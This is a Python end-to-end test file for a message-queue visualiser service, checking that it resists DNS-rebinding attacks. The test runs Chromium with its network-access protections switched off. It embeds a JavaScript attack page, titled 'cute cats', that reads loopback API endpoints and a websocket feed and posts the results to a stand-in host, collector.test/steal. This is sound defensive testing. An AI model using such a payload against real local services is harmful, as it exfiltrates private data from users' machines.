"""DNS rebinding in real Chromium: another site's page, its name pointed at 127.0.0.1,
tries to read the default (loopback, no auth) service and send what it read away.

Chromium resolves ``rebind.test`` to 127.0.0.1 (``--host-resolver-rules``), as it would
after the attacker's DNS answer changed. The attacker's page itself is served by the test
(its first load, from the attacker's server, before the rebinding); everything it then
fetches from its own origin goes to the real service, with ``Host: rebind.test:PORT``. What
it manages to read it posts to ``collector.test``, which the test records.

The same page served from ``localhost`` (a name the service answers to) reads the topology
and sends it: the harness would see a leak if there were one.

Chromium's own Private/Local Network Access checks are switched off in this browser. They
would stop this particular page (its document has no address, so it counts as public), but
they depend on the browser, its version and where the attacker's page comes from (one on
the same network is not "more public"); the service has to refuse on its own.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.conftest import LiveServer, StaticSource, run_live, snapshot_of, stop_live
from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS
from visualiser.config import Settings
from visualiser.model.entities import Queue, VhostSnapshot

pytestmark = pytest.mark.e2e

SECRET = "payroll-secret-queue"
BROWSER_NETWORK_CHECKS = ",".join(
    [
        "BlockInsecurePrivateNetworkRequests",
        "PrivateNetworkAccessSendPreflights",
        "PrivateNetworkAccessRespectPreflightResults",
        "LocalNetworkAccessChecks",
    ]
)
ATTACK = """<!doctype html><title>cute cats</title><script>
(async () => {
  const out = {};
  for (const path of ['/api/topology?vhost=%2F', '/api/tasks', '/api/vhosts', '/healthz', '/']) {
    try { const r = await fetch(path); out[path] = {status: r.status, body: await r.text()}; }
    catch (e) { out[path] = {error: String(e)}; }
  }
  out.websocket = await new Promise((resolve) => {
    const ws = new WebSocket(`ws://${location.host}/socket.io/?EIO=4&transport=websocket`);
    ws.onmessage = (m) => { ws.send('40'); ws.send('42["subscribe",{"vhost":"/"}]');
                            if (m.data.includes('snapshot')) { resolve('read: ' + m.data); ws.close(); } };
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 8000);
  });
  await fetch('http://collector.test/steal', {method: 'POST', body: JSON.stringify(out)});
  window.done = true;
})();
</script>"""


@pytest.fixture(scope="module")
def live() -> Iterator[LiveServer]:
    server, _ = run_live(Settings(), sources=[])
    StaticSource(server.service.hub, snapshot_of(VhostSnapshot("/", queues=(Queue(SECRET),)))).start()
    yield server
    stop_live(server)


@pytest.fixture(scope="module")
def rebinding_browser(browser) -> Iterator[Any]:
    """A second Chromium from the session's Playwright (one Playwright per process), resolving rebind.test locally."""
    rebinding = browser.browser_type.launch(
        executable_path=CHROMIUM,
        args=[
            *CHROMIUM_ARGS,
            "--host-resolver-rules=MAP rebind.test 127.0.0.1",
            f"--disable-features={BROWSER_NETWORK_CHECKS}",
        ],
    )
    yield rebinding
    rebinding.close()


def run_attack(browser: Any, page_url: str) -> dict[str, Any]:
    """Serve the attacker's page at page_url, let it run, return what it sent to the collector."""
    context = browser.new_context()
    stolen: list[str] = []
    try:
        page = context.new_page()
        page.route(page_url, lambda route: route.fulfill(status=200, content_type="text/html", body=ATTACK))

        def collect(route: Any) -> None:
            stolen.append(route.request.post_data or "")
            route.fulfill(status=204, headers={"Access-Control-Allow-Origin": "*"})

        page.route("http://collector.test/**", collect)
        page.goto(page_url)
        page.wait_for_function("window.done === true", timeout=30000)
    finally:
        context.close()
    assert len(stolen) == 1
    return json.loads(stolen[0])


def test_a_rebound_page_reads_nothing_and_sends_nothing_away(live, rebinding_browser) -> None:
    stolen = run_attack(rebinding_browser, f"http://rebind.test:{live.port}/cats.html")
    for path in ["/api/topology?vhost=%2F", "/api/tasks", "/api/vhosts", "/healthz", "/"]:
        assert stolen[path]["status"] == 421, (path, stolen[path])
        assert "public_hosts" in stolen[path]["body"]
    assert stolen["websocket"] in ("refused", "timeout")
    assert SECRET not in json.dumps(stolen)


def test_the_same_page_on_an_allowed_name_does_read_the_topology(live, rebinding_browser) -> None:
    stolen = run_attack(rebinding_browser, f"http://localhost:{live.port}/cats.html")
    assert stolen["/api/topology?vhost=%2F"]["status"] == 200
    assert SECRET in stolen["/api/topology?vhost=%2F"]["body"]
    assert stolen["websocket"].startswith("read: ") and SECRET in stolen["websocket"]
